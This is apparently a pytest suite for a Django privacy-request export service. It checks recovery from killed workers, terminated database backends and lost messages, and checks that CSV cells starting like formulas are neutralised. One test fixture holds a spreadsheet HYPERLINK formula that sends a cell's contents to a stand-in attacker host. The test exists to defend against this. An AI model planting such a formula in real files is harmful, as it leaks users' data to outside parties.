"""Exports survive faults: a killed worker, a terminated database backend, a lost message;
no partial or empty file is ever an export, and CSV cells cannot run as formulas."""

import contextlib
import csv
import io
import os
import signal
import subprocess
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from datarequests import exports, services
from datarequests.export_storage import staging_dir
from datarequests.exports import PARTIAL, export_create, export_dir
from datarequests.models import Channel, DataRequest, Export, Kind, Status
from datarequests.services.fulfilment import CLAIM_LEASE
from datarequests.services.sweep import EXPORT_HANDOFF
from privacy_office import clock
from privacy_office.encrypted_files import MAGIC, EncryptingWriter, decrypted_chunks
from tests.datarequests.helpers import export_json, export_zip, stored_path
from tests.datarequests.test_export_streaming import csv_rows
from tests.factories import UserFactory, person_with_data_in_every_category

ROOT = Path(__file__).resolve().parents[2]


def submit(user) -> DataRequest:
    return services.data_request_submit(
        requester=services.Requester(user=user),
        kind=Kind.ACCESS,
        jurisdiction_code="EU",
        channel=Channel.API,
        now=clock.now(),
    )


def files_of(request_id: int) -> list[Path]:
    return sorted([*export_dir().glob(f"{request_id}-*"), *staging_dir().glob(f"{request_id}-*")])


def wait_for(condition, seconds: float = 90, what: str = "") -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return
        time.sleep(0.2)
    raise AssertionError(f"timed out waiting for {what}")


def status_of(request_id: int) -> str:
    return DataRequest.objects.get(pk=request_id).status


@contextlib.contextmanager
def worker_thread():
    from celery.contrib.testing.worker import start_worker

    from config.celery import app

    with start_worker(app, pool="solo", perform_ping_check=False, shutdown_timeout=10):
        yield


# --- CSV formula injection (item 13) ------------------------------------------------------

settings_for_hypothesis = hypothesis_settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


@pytest.mark.django_db
def test_csv_cells_that_start_like_a_formula_are_shown_as_text_but_json_keeps_them():
    formulas = {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "last_name": "+86 571",
        "city": "-2+3",
        "region": "@SUM(A1:A9)",
        "address_line": "\tTabbed",
        "postal_code": "\rReturn",
    }
    user = UserFactory(**formulas)

    export = export_create(request=submit(user), now=clock.now())

    header, row = csv_rows(export_zip(export), "accounts.User")
    cells = dict(zip(header, row, strict=True))
    assert {name: cells[name] for name in formulas} == {
        name: "'" + value for name, value in formulas.items()
    }
    assert cells["username"] == user.username  # nothing else changed
    json_user = export_json(export)["categories"]["registration"]["models"]["accounts.User"]
    assert {name: json_user["rows"][0][name] for name in formulas} == formulas


def _cells(block: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(block.decode(), newline="")))


def _as_postgresql_quotes(cell: str) -> str:
    """A cell as ``COPY … CSV`` writes it: quoted when empty or holding , " CR or LF."""
    if cell and not any(mark in cell for mark in ',"\r\n'):
        return cell
    return '"' + cell.replace('"', '""') + '"'


@settings_for_hypothesis
@given(
    rows=st.lists(
        st.lists(st.text(alphabet='ab,"=+-@\t\r\n 1', max_size=6), min_size=1, max_size=4),
        max_size=5,
    )
)
def test_every_cell_starting_like_a_formula_gets_a_quote_mark_and_no_other_cell_changes(rows):
    block = "".join(",".join(map(_as_postgresql_quotes, row)) + "\n" for row in rows).encode()

    neutralised = exports.csv_formulas_neutralise(block)

    assert _cells(neutralised) == [
        ["'" + cell if cell.startswith(exports.FORMULA_STARTS) else cell for cell in row]
        for row in rows
    ]


def test_a_block_of_page_views_comes_back_as_it_is_without_being_rewritten():
    block = b'2026-03-01 10:00:00+00,visitor-7,session-1,,Chrome,Windows,"/a,b-c"\n' * 1000

    assert exports.csv_formulas_neutralise(block) is block


# --- no partial, empty or old-format file is served (items 16, 20) -------------------------


@pytest.mark.django_db
def test_an_empty_export_file_is_never_served(client):
    user = UserFactory()
    request = submit(user)
    export = export_create(request=request, now=clock.now())
    stored_path(export).write_bytes(b"")
    client.force_login(user)

    response = client.get(reverse("api-request-export", args=[request.pk]))

    assert response.status_code == 404


def test_a_damaged_file_is_refused_before_any_byte_is_handed_out(tmp_path):
    path = tmp_path / "cut.enc"
    with EncryptingWriter(path) as writer:
        writer.write(os.urandom(3 * 1024 * 1024))
    path.write_bytes(path.read_bytes()[:-100])  # the last chunk cut short

    with pytest.raises(ValueError, match="damaged or incomplete"):
        decrypted_chunks(path)  # at once, not halfway through a download


def _fernet_file(path: Path, pieces: list[bytes]) -> None:
    from privacy_office.fields import cipher

    with path.open("wb") as handle:
        for piece in pieces:
            token = cipher().encrypt(piece)
            handle.write(len(token).to_bytes(4, "big") + token)


def test_a_file_of_the_old_fernet_layout_is_resealed_in_the_current_one(tmp_path):
    path = tmp_path / "old.enc"
    _fernet_file(path, [b"first ", b"second"])

    assert b"".join(decrypted_chunks(path)) == b"first second"
    assert path.read_bytes().startswith(MAGIC)
    assert b"".join(decrypted_chunks(path)) == b"first second"


def test_an_old_fernet_file_cut_inside_a_record_is_refused_and_left_as_it_was(tmp_path):
    path = tmp_path / "old.enc"
    _fernet_file(path, [b"first ", b"second"])
    cut = path.read_bytes()[:-10]
    path.write_bytes(cut)

    with pytest.raises(ValueError, match="damaged or incomplete"):
        decrypted_chunks(path)
    assert path.read_bytes() == cut
    assert list(path.parent.iterdir()) == [path]


@pytest.mark.django_db(transaction=True)
def test_a_new_claim_removes_what_a_dead_build_left_and_records_one_file():
    user = UserFactory()
    request = submit(user)
    DataRequest.objects.filter(pk=request.pk).update(
        status=Status.IN_PROGRESS, export_claimed_at=clock.now() - CLAIM_LEASE * 2
    )
    # A build killed before its commit leaves a whole file no row names; one killed while
    # writing leaves a partial one.
    (export_dir() / f"{request.pk}-0123456789abcdef.zip.enc").write_bytes(b"complete")
    (staging_dir() / f"{request.pk}-fedcba9876543210.zip.enc{PARTIAL}").write_bytes(b"half")

    services.access_fulfil(request_id=request.pk, now=clock.now())

    export = Export.objects.get(request_id=request.pk)
    assert files_of(request.pk) == [stored_path(export)]
    assert status_of(request.pk) == Status.FULFILLED


# --- a real worker killed mid-build, a backend terminated mid-COPY (items 20, 21) ----------


def _database_url() -> str:
    db = connection.settings_dict
    password = f":{db['PASSWORD']}" if db.get("PASSWORD") else ""
    return (
        f"postgres://{db['USER']}{password}@{db['HOST'] or '127.0.0.1'}:{db['PORT'] or 5432}"
        f"/{db['NAME']}"
    )


# dateless: the killed worker is another process, on the machine's clock, so a run under a
# frozen "today" would compare its claim's time with another day's.
@pytest.mark.dateless
@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_mid_build_leaves_nothing_to_serve_and_the_sweep_brings_it_back(
    client, time_machine
):
    from config.celery import app

    app.control.purge()
    env = {
        **os.environ,
        "DJANGO_ENV": "test",
        "DJANGO_SETTINGS_MODULE": "config.settings.test",
        "DATABASE_URL": _database_url(),
        "MEDIA_ROOT": str(settings.MEDIA_ROOT),
    }
    worker = subprocess.Popen(
        [sys.executable, "-m", "tests.datarequests.slow_worker"], cwd=ROOT, env=env
    )
    try:
        owner = person_with_data_in_every_category()
        request_id = submit(owner).pk
        for leftover in files_of(request_id):  # an earlier test's request of the same number
            leftover.unlink()
        wait_for(
            lambda: any(p.name.endswith(PARTIAL) for p in files_of(request_id)),
            what="the killable build to start writing",
        )
        worker.send_signal(signal.SIGKILL)
        worker.wait(timeout=30)
    finally:
        if worker.poll() is None:
            worker.kill()
            worker.wait(timeout=30)

    assert status_of(request_id) == Status.IN_PROGRESS
    assert not [p for p in files_of(request_id) if not p.name.endswith(PARTIAL)]
    assert not Export.objects.filter(request_id=request_id).exists()
    client.force_login(owner)
    assert client.get(reverse("api-request-export", args=[request_id])).status_code == 404

    # The dead build's claim is no longer renewed: the first sweep after its lease re-sends.
    time_machine.move_to(clock.now() + CLAIM_LEASE + timedelta(seconds=5), tick=True)
    started = time.monotonic()
    with worker_thread():
        swept = services.requests_sweep(now=clock.now())
        wait_for(lambda: status_of(request_id) == Status.FULFILLED, what="the rebuilt export")
    print(f"recovered {time.monotonic() - started:.1f} s after the sweep")

    assert swept["requeued"] == 1
    export = Export.objects.get(request_id=request_id)
    assert files_of(request_id) == [stored_path(export)]  # no orphan, no partial file
    download = client.get(reverse("api-request-export", args=[request_id]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content)[-22:-18] == b"PK\x05\x06"  # the zip's end


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_backend_terminated_mid_copy_is_retried_and_fulfils_once(monkeypatch):
    from config.celery import app

    app.control.purge()
    real_copy = exports.copy_csv_blocks
    copying, terminated = threading.Event(), threading.Event()
    backend = []

    def copy_cut_once(sql, params):
        blocks = real_copy(sql, params)
        if copying.is_set():
            yield from blocks
            return
        first = next(blocks)  # the COPY is running
        backend.append(connection.connection.info.backend_pid)
        copying.set()
        terminated.wait(30)
        yield first
        yield from blocks

    monkeypatch.setattr(exports, "copy_csv_blocks", copy_cut_once)
    owner = person_with_data_in_every_category()
    with worker_thread():
        request_id = submit(owner).pk
        assert copying.wait(60), "the export never started"
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_terminate_backend(%s)", [backend[0]])
        terminated.set()
        wait_for(lambda: status_of(request_id) == Status.FULFILLED, what="the retried export")

    export = Export.objects.get(request_id=request_id)
    assert files_of(request_id) == [stored_path(export)]
    assert (
        DataRequest.objects.get(pk=request_id).events.filter(status=Status.FULFILLED).count() == 1
    )
    assert export_json(export)["categories"]["registration"]["models"]["accounts.User"]["rows"]


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_an_export_whose_message_was_flushed_comes_back_at_the_next_sweep():
    from config.celery import app

    owner = person_with_data_in_every_category()
    request_id = submit(owner).pk  # no worker yet: the fee assessment waits in the broker
    app.control.purge()
    services.fee_assess(request_id=request_id, now=clock.now())
    app.control.purge()  # the broker lost the export's message too
    assert status_of(request_id) == Status.IN_PROGRESS

    with worker_thread():
        swept = services.requests_sweep(now=clock.now() + EXPORT_HANDOFF + timedelta(seconds=5))
        wait_for(lambda: status_of(request_id) == Status.FULFILLED, what="the re-sent export")

    assert swept["requeued"] == 1
    assert files_of(request_id) == [stored_path(Export.objects.get(request_id=request_id))]


@pytest.mark.django_db(transaction=True)
def test_a_failed_finalise_releases_the_claim_and_the_request_is_built_again(monkeypatch):
    """The database goes away as the finished export is being recorded: the claim is let go
    at once (not only when its lease runs out), the built file is deleted, and the next
    attempt builds and records one export."""
    from django.db import Error

    from datarequests.services import fulfilment

    request = submit(UserFactory())
    DataRequest.objects.filter(pk=request.pk).update(status=Status.IN_PROGRESS)
    real_record = fulfilment.export_record

    def backend_lost(**kwargs):
        monkeypatch.setattr(fulfilment, "export_record", real_record)
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_terminate_backend(pg_backend_pid())")
        return real_record(**kwargs)

    monkeypatch.setattr(fulfilment, "export_record", backend_lost)

    with pytest.raises(Error):
        services.access_fulfil(request_id=request.pk, now=clock.now())
    connection.close()
    left = DataRequest.objects.get(pk=request.pk)

    assert (left.status, left.export_claimed_at, files_of(request.pk)) == (
        Status.IN_PROGRESS,
        None,
        [],
    )
    assert not Export.objects.filter(request_id=request.pk).exists()
    again = services.access_fulfil(request_id=request.pk, now=clock.now())
    assert again.status == Status.FULFILLED
    assert files_of(request.pk) == [stored_path(Export.objects.get(request_id=request.pk))]
